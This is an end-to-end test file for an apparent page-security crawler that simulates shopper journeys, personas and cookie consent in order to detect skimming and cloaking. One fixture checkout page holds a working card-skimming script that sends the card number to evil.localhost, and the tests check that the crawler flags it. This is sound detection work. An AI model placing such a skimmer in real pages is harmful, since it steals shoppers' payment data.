using Microsoft.AspNetCore.Http;
using PageShield.Crawls;
using PageShield.Crawls.Captures;
using PageShield.Sites;
using PageShield.Sites.Journeys;

namespace PageShield.EndToEndTests.Crawls;

/// <summary>Visits that behave like shoppers: journeys, personas, consent, allow-listing.</summary>
public sealed class ShopperTests(ChromiumFixture chromium) : IAsyncLifetime
{
    private FixtureSite _site = null!; // set before each test

    public async ValueTask InitializeAsync() => _site = await FixtureSite.StartAsync();

    public ValueTask DisposeAsync() => _site.DisposeAsync();

    private async Task<List<Capture>> CrawlAsync(CrawlPlan plan)
    {
        var captures = await chromium.Crawler.CrawlAllAsync(plan);
        foreach (var capture in captures)
            TestContext.Current.TestOutputHelper?.WriteLine($"{capture.Journey} {capture.Persona} {capture.Url} -> {capture.FinalUrl} {capture.Describe()}\n{string.Join('\n', capture.Findings)}");
        return captures;
    }

    private void ServeShop()
    {
        _site.Html("shop.localhost/product/tea", "<title>Tea</title><form action=/basket method=post><button class=single_add_to_cart_button name=add value=1>Buy</button></form><script>window.product = 1</script>")
            .Answer("shop.localhost/basket", static context =>
            {
                if (context.Request.Method == "POST") context.Response.Cookies.Append("basket", "1");
                context.Response.ContentType = "text/html";
                return context.Response.WriteAsync(
                    "<title>Basket</title><a class=checkout-button href=/pay>On</a><script>window.basket = 1</script>");
            })
            .Answer("shop.localhost/pay", static context =>
            {
                context.Response.ContentType = "text/html";
                return context.Response.WriteAsync(context.Request.Cookies.ContainsKey("basket")
                    ? "<title>Pay</title><form action=/order method=post><input name=cardnumber autocomplete=cc-number><input name=cvc autocomplete=cc-csc><button>Order</button></form><script>window.checkout = 1; addEventListener('submit', () => new Image().src = 'http://evil.localhost:" + context.Request.Host.Port + "/?' + document.forms[0].cardnumber.value, true)</script>"
                    : "<title>Empty</title>");
            })
            .Answer("shop.localhost/order", static context => context.Response.WriteAsync("ordered"));
    }

    [Fact]
    public async Task A_journey_shows_each_page_on_the_way_and_places_no_order()
    {
        ServeShop();
        var (journeys, problems) = JourneyText.Parse($"journey Buy\ngo to {_site.Url("shop.localhost/product/tea")}\nclick button \"Buy\"\nclick link \"On\"\nfill css \"[name=cardnumber]\" with card number\nfill css \"[name=cvc]\" with security code\nclick button \"Order\"");
        Assert.Empty(problems);

        var captures = await CrawlAsync(_site.Plan(["shop.localhost/product/tea"], "evil.localhost") with { StartUrls = [], Journeys = journeys });

        Assert.Equal(["Tea", "Basket", "Pay"], captures.Select(static capture => capture.Title));
        Assert.All(captures, static capture => Assert.Equal(("Buy", PageOutcome.Ok), (capture.Journey, capture.Outcome)));
        Assert.Equal(["window.product = 1", "window.basket = 1"],
            captures.Take(2).Select(static capture => capture.Bodies[Assert.Single(capture.Scripts).SourceSha256!.Value].Text));
        Assert.Contains(captures[2].Findings,
            static finding => finding.Rule == "canary-exfiltration" && finding.Title.Contains("evil.localhost", StringComparison.Ordinal));
        Assert.DoesNotContain(_site.Log, static entry => entry.Target == "shop.localhost/order");
    }

    [Fact]
    public async Task A_journey_that_opts_in_submits_for_real()
    {
        ServeShop();
        var (journeys, _) = JourneyText.Parse($"go to {_site.Url("shop.localhost/product/tea")}\nclick button \"Buy\"\nclick link \"On\"\nfill css \"[name=cardnumber]\" with card number\nclick button \"Order\"\nwait for text \"ordered\"\nsubmit for real");

        var captures = await CrawlAsync(_site.Plan(["shop.localhost/product/tea"], "evil.localhost") with { StartUrls = [], Journeys = journeys });

        Assert.All(captures, static capture => Assert.Equal(PageOutcome.Ok, capture.Outcome));
        Assert.Contains(_site.Log,
            static entry => entry.Target == "shop.localhost/order" && entry.Body.Contains("cardnumber=4", StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_way_to_the_checkout_is_found_without_a_journey()
    {
        ServeShop();
        _site.Html("shop.localhost/", "<a href=/product/tea>Tea</a>");

        var captures = await CrawlAsync(_site.Plan(["shop.localhost/"], "evil.localhost") with { TriesCheckout = true });

        Assert.Equal(["Pay"], captures.Where(static capture => capture.Journey is not null).Select(static capture => capture.Title).TakeLast(1));
        Assert.Contains(captures[^1].Findings, static finding => finding.Rule == "canary-exfiltration");
        Assert.DoesNotContain(_site.Log, static entry => entry.Target == "shop.localhost/order");
    }

    [Theory]
    [InlineData("woocommerce", "<button class='single_add_to_cart_button'>→</button>", "<a class='checkout-button' href=/pay>→</a>")]
    [InlineData("magento", "<button id='product-addtocart-button'>→</button>",
        "<button data-role='proceed-to-checkout' onclick=\"location='/pay'\">→</button>")]
    [InlineData("shopify", "<form action='/cart/add' onsubmit='return false'><button type=submit>→</button></form>",
        "<button name=checkout onclick=\"location='/pay'\">→</button>")]
    [InlineData("prestashop", "<button class='add-to-cart' data-button-action='add-to-cart'>→</button>",
        "<div class='cart-detailed-actions'><a class='btn-primary' href=/pay>→</a></div>")]
    [InlineData("opencart", "<button id='button-cart'>→</button>",
        "<a href='/index.php?route=checkout/checkout' onclick=\"location='/pay';return false\">→</a>")]
    [InlineData("words", "<button>In den Warenkorb</button>", "<a href=/pay>Zur Kasse</a>")]
    public async Task Common_shop_platforms_are_understood(string platform, string add, string checkout)
    {
        _site.Html("shop.localhost/product/tea", $"<title>{platform}</title>{add}{checkout}<script>addEventListener('click', e => {{ if (e.target.closest('button') && !window.added) {{ window.added = 1; fetch('/added', {{ method: 'POST', keepalive: true }}); }} }}, true)</script>")
            .Html("shop.localhost/added", "ok").Html("shop.localhost/pay", "<title>Pay</title>");

        var captures = await CrawlAsync(_site.Plan(["shop.localhost/product/tea"]) with { TriesCheckout = true });

        Assert.Equal(("Pay", PageOutcome.Ok), (captures[^1].Title, captures[^1].Outcome));
        Assert.Contains(_site.Log, static entry => entry.Target == "shop.localhost/added");
    }

    [Fact]
    public async Task A_step_that_does_not_work_fails_the_journey_and_says_which()
    {
        ServeShop();
        var (journeys, _) = JourneyText.Parse($"journey Buy\ngo to {_site.Url("shop.localhost/product/tea")}\nclick button \"No such button\"");

        var capture = Assert.Single(await CrawlAsync(_site.Plan(["shop.localhost/product/tea"]) with { StartUrls = [], Journeys = journeys }));

        Assert.Equal(PageOutcome.Failed, capture.Outcome);
        Assert.Contains("line 3 (click button \"No such button\")", capture.OutcomeReason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_login_uses_the_stored_secret_and_a_lost_one_is_reported()
    {
        _site.Html("shop.localhost/login",
            "<form action=/in method=post><input name=user><input type=password name=pw><button>Sign in</button></form>")
            .Answer("shop.localhost/in", static context => context.Response.WriteAsync("Welcome"));
        var (journeys, _) = JourneyText.Parse($"go to {_site.Url("shop.localhost/login")}\nfill css \"[name=user]\" with \"ann\"\nfill css \"[name=pw]\" with secret shop-password\nclick button \"Sign in\"\nwait for text \"Welcome\"");
        var plan = _site.Plan(["shop.localhost/login"]) with { StartUrls = [], Journeys = journeys };

        var known = await CrawlAsync(plan with { Secrets = new Dictionary<string, string?> { ["shop-password"] = "open sesame" } });
        var lost = await CrawlAsync(plan with { Secrets = new Dictionary<string, string?> { ["shop-password"] = null } });

        Assert.Equal(PageOutcome.Ok, known[^1].Outcome);
        Assert.Contains(_site.Log, static entry => entry.Body.Contains("pw=open+sesame", StringComparison.Ordinal));
        Assert.Equal(PageOutcome.Failed, lost[^1].Outcome);
        Assert.Contains("enter it again", lost[^1].OutcomeReason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_persona_is_believed_by_page_and_server_and_what_only_it_gets_is_a_finding()
    {
        _site.Answer("shop.localhost/", context =>
        {
            context.Response.ContentType = "text/html";
            var isTarget = context.Request.Headers.UserAgent.ToString().Contains("Mobile", StringComparison.Ordinal)
                && context.Request.Query["utm_source"] == "ads" && context.Request.Headers.Referer == "http://search.localhost/";
            return context.Response.WriteAsync("<meta name=viewport content='width=device-width'><script src=/tell.js></script>"
                + (isTarget ? $"<script src='http://only-mobile.localhost:{_site.Port}/x.js'></script>" : ""));
        }).Script("only-mobile.localhost/x.js", "window.x = 1").Script("shop.localhost/tell.js", """
            fetch('/told?' + encodeURIComponent(JSON.stringify([navigator.userAgentData?.mobile ?? null, navigator.maxTouchPoints > 0, innerWidth, navigator.language, Intl.DateTimeFormat().resolvedOptions().timeZone, document.referrer, new Date().getFullYear() > 2099, Date.now() > 4e12])));
            """);
        Assert.True(Persona.TryParse(
            "phone: mobile locale=de-AT zone=Europe/Vienna referrer=http://search.localhost/ query=utm_source=ads clock=+9999d clock=+9999d",
            out var phone, out _));
        phone = phone with { ClockShift = TimeSpan.FromDays(365 * 80) };

        var captures = await CrawlAsync(_site.Plan(["shop.localhost/"], "only-mobile.localhost") with { Personas = [Persona.Desktop, phone] });

        Assert.Equal([null, "phone"], captures.Select(static capture => capture.Persona));
        Assert.Contains(_site.Log,
            static entry =>
            Uri.UnescapeDataString(entry.Target)
            .EndsWith("""[null,true,412,"de-AT","Europe/Vienna","http://search.localhost/",true,true]""", StringComparison.Ordinal)
            || Uri.UnescapeDataString(entry.Target)
                .EndsWith("""[true,true,412,"de-AT","Europe/Vienna","http://search.localhost/",true,true]""", StringComparison.Ordinal));
        var finding = Assert.Single(captures[1].Findings);
        Assert.Equal("persona-only-script", finding.Rule);
        Assert.Contains("only-mobile.localhost", finding.Title, StringComparison.Ordinal);
        Assert.Empty(captures[0].Findings);
    }

    [Fact]
    public async Task A_returning_visitor_comes_with_aged_storage()
    {
        _site.Html("shop.localhost/", """
            <script>
            const first = +localStorage.first;
            if (first) document.title = `away for ${Math.round((Date.now() - first) / 864e5)} days`;
            else { localStorage.first = Date.now(); document.cookie = 'been=here; max-age=9999999'; document.title = 'new'; }
            </script>
            """);
        Assert.True(Persona.TryParse("old friend: returning", out var friend, out _));

        var capture = Assert.Single(await CrawlAsync(_site.Plan(["shop.localhost/"]) with { Personas = [friend] }));

        Assert.Equal("away for 30 days", capture.Title);
        Assert.Contains(capture.Cookies, static cookie => cookie.Name == "been");
        Assert.Single(capture.Scripts);
    }

    [Theory]
    [InlineData(ConsentChoice.Accept, "onetrust", "<div id=b><button id=onetrust-accept-btn-handler onclick=\"add('yes')\">Yes</button><button id=onetrust-reject-all-handler onclick=\"add('no')\">No</button></div>")]
    [InlineData(ConsentChoice.Reject, "onetrust", "<div id=b><button id=onetrust-accept-btn-handler onclick=\"add('yes')\">Yes</button><button id=onetrust-reject-all-handler onclick=\"add('no')\">No</button></div>")]
    [InlineData(ConsentChoice.Ignore, "onetrust", "<div id=b><button id=onetrust-accept-btn-handler onclick=\"add('yes')\">Yes</button></div>")]
    [InlineData(ConsentChoice.Accept, "shadow", "<div id=usercentrics-root></div><script>document.getElementById('usercentrics-root').attachShadow({ mode: 'open' }).innerHTML = '<button data-testid=uc-accept-all-button>OK</button>'; document.getElementById('usercentrics-root').shadowRoot.querySelector('button').onclick = () => add('yes');</script>")]
    [InlineData(ConsentChoice.Accept, "words", "<div>We use cookies.<button onclick=\"add('yes')\">Alle akzeptieren</button></div>")]
    [InlineData(ConsentChoice.Reject, "words", "<div>We use cookies.<button onclick=\"add('no')\">Nur notwendige</button></div>")]
    [InlineData(ConsentChoice.Accept, "more words", "<div id=b style=\"position:fixed;bottom:0\">Wir verwenden Cookies.<a href=/settings>Einstellungen</a><button onclick=\"b.remove();add('yes')\">Akzeptieren und weiter</button></div>")]
    [InlineData(ConsentChoice.Accept, "understand",
        "<div id=b>This site uses cookies. See our privacy notice.<button onclick=\"b.remove();add('yes')\">I understand</button></div>")]
    [InlineData(ConsentChoice.Accept, "trusted", "<div id=b style=\"position:fixed;bottom:0\">Cookies?<button onclick=\"if(event.isTrusted){b.remove();add('yes')}\">Accept all</button></div>")]
    [InlineData(ConsentChoice.Accept, "closed", "<div id=h></div><script>{ const r = h.attachShadow({ mode: 'closed' }); r.innerHTML = '<div style=position:fixed;bottom:0>We use cookies <button>Accept</button></div>'; r.querySelector('button').onclick = () => { h.remove(); add('yes'); }; }</script>")]
    [InlineData(ConsentChoice.Accept, "a platform's rule", "<div id=truyo-cookieBarContent><div id=truyo-consent-module>Hm. <button id=acceptAllCookieButton onclick=\"this.remove();add('yes')\">Prima</button></div></div>")]
    public async Task A_consent_banner_is_answered_as_asked_and_what_ran_before_is_told(ConsentChoice choice, string banner, string html)
    {
        _site.Html("shop.localhost/", $"<title>{banner}</title><script src=/before.js></script>{html}")
            .Script("shop.localhost/before.js",
                "function add(name) { const s = document.createElement('script'); s.src = '/after-' + name + '.js'; document.head.append(s); }")
            .Script("shop.localhost/after-yes.js", "window.yes = 1").Script("shop.localhost/after-no.js", "window.no = 1");

        var capture = Assert.Single(await CrawlAsync(_site.Plan(["shop.localhost/"]) with { Consent = choice }));

        var before = Assert.Single(capture.Scripts, static script => script.Url.EndsWith("/before.js", StringComparison.Ordinal));
        Assert.Equal(choice == ConsentChoice.Ignore ? null : true, before.BeforeConsent);
        var after = capture.Scripts.Where(static script => script.Url.Contains("/after-", StringComparison.Ordinal)).ToList();
        if (choice == ConsentChoice.Ignore) Assert.Empty(after);
        else Assert.Equal((choice == ConsentChoice.Accept ? "/after-yes.js" : "/after-no.js", (bool?)false),
            (new Uri(Assert.Single(after).Url).AbsolutePath, after[0].BeforeConsent));
        Assert.NotEqual(ConsentOutcome.NotAnswered, capture.Consent);
    }

    [Theory]
    [InlineData("<div style=\"position:fixed;bottom:0;width:100%\">We use cookies. <button onclick=\"this.textContent='Accept'\">Accept</button></div>", ConsentOutcome.NotAnswered)]
    [InlineData("<div id=h></div><script>{ const r = h.attachShadow({ mode: 'closed' }); r.innerHTML = '<div style=\"position:fixed;bottom:0;width:100%\">We use cookies <button>Accept</button></div>'; }</script>", ConsentOutcome.NotAnswered)]
    [InlineData("<div style=\"position:fixed;bottom:0;width:100%\">We use cookies. <button onclick=\"fetch('/order')\">Accept order and pay</button><button onclick=\"fetch('/order')\">Yes, subscribe and accept</button></div>", ConsentOutcome.NotAsked)]
    [InlineData("<footer>We bake cookies. <a href=/privacy>Privacy policy</a> <button>Subscribe</button></footer>", ConsentOutcome.NotAsked)]
    [InlineData("<dialog open>Cookies of the month <button>Add to cart</button></dialog>", ConsentOutcome.NotAsked)]
    public async Task A_banner_that_is_still_there_at_the_end_is_told(string html, ConsentOutcome expected)
    {
        _site.Html("shop.localhost/", $"<title>Shop</title>{html}").Html("shop.localhost/privacy", "<title>Privacy</title>");

        var capture = Assert.Single(await CrawlAsync(_site.Plan(["shop.localhost/"]) with { Consent = ConsentChoice.Accept }));

        Assert.Equal(expected, capture.Consent);
        Assert.DoesNotContain(_site.Log, static entry => entry.Target.Contains("/order", StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_secret_header_and_the_suffix_go_to_the_site_and_the_header_to_nobody_else()
    {
        var seen = new System.Collections.Concurrent.ConcurrentBag<(string Host, string Path, string Header, string Agent)>();
        foreach (var target in new[] { "shop.localhost/", "shop.localhost/api", "cdn.localhost/a.js" })
        {
            _site.Answer(target, context =>
            {
                seen.Add((context.Request.Host.Host, context.Request.Path, context.Request.Headers["X-Crawler-Key"].ToString(),
                    context.Request.Headers.UserAgent.ToString()));
                context.Response.ContentType = target.EndsWith(".js", StringComparison.Ordinal) ? "text/javascript" : "text/html";
                return context.Response.WriteAsync(target.EndsWith(".js", StringComparison.Ordinal) ? "fetch('/api')"
                    : $"<script src='http://cdn.localhost:{_site.Port}/a.js'></script>");
            });
        }

        await CrawlAsync(
            _site.Plan(["shop.localhost/"], "cdn.localhost") with { SecretHeader = new("X-Crawler-Key", "s3cret"), UserAgentSuffix = "ShopScan/1" });

        Assert.Equal(3, seen.Select(static entry => entry.Path).Distinct().Count());
        Assert.All(seen, static entry => Assert.Equal(entry.Host == "shop.localhost" ? "s3cret" : "", entry.Header));
        Assert.All(seen, static entry => Assert.EndsWith(" ShopScan/1", entry.Agent, StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_page_that_serves_robots_something_else_is_a_finding()
    {
        _site.Answer("shop.localhost/", context =>
        {
            context.Response.ContentType = "text/html";
            var isBrowser = context.Request.Headers.UserAgent.ToString().Contains("Chrome/", StringComparison.Ordinal);
            return context.Response.WriteAsync(
                "<title>Shop</title>" + (isBrowser ? $"<script src='http://evil.localhost:{_site.Port}/x.js'></script>" : ""));
        }).Script("evil.localhost/x.js", "window.x = 1").Html("shop.localhost/same", "<script>window.same = 1</script>");

        var captures = await CrawlAsync(_site.Plan(["shop.localhost/", "shop.localhost/same"], "evil.localhost") with { ComparesPlainFetch = true });

        var finding = Assert.Single(captures.SelectMany(static capture => capture.Findings));
        Assert.Equal("served-differently", finding.Rule);
        Assert.Contains("evil.localhost", finding.Evidence, StringComparison.Ordinal);
    }
}
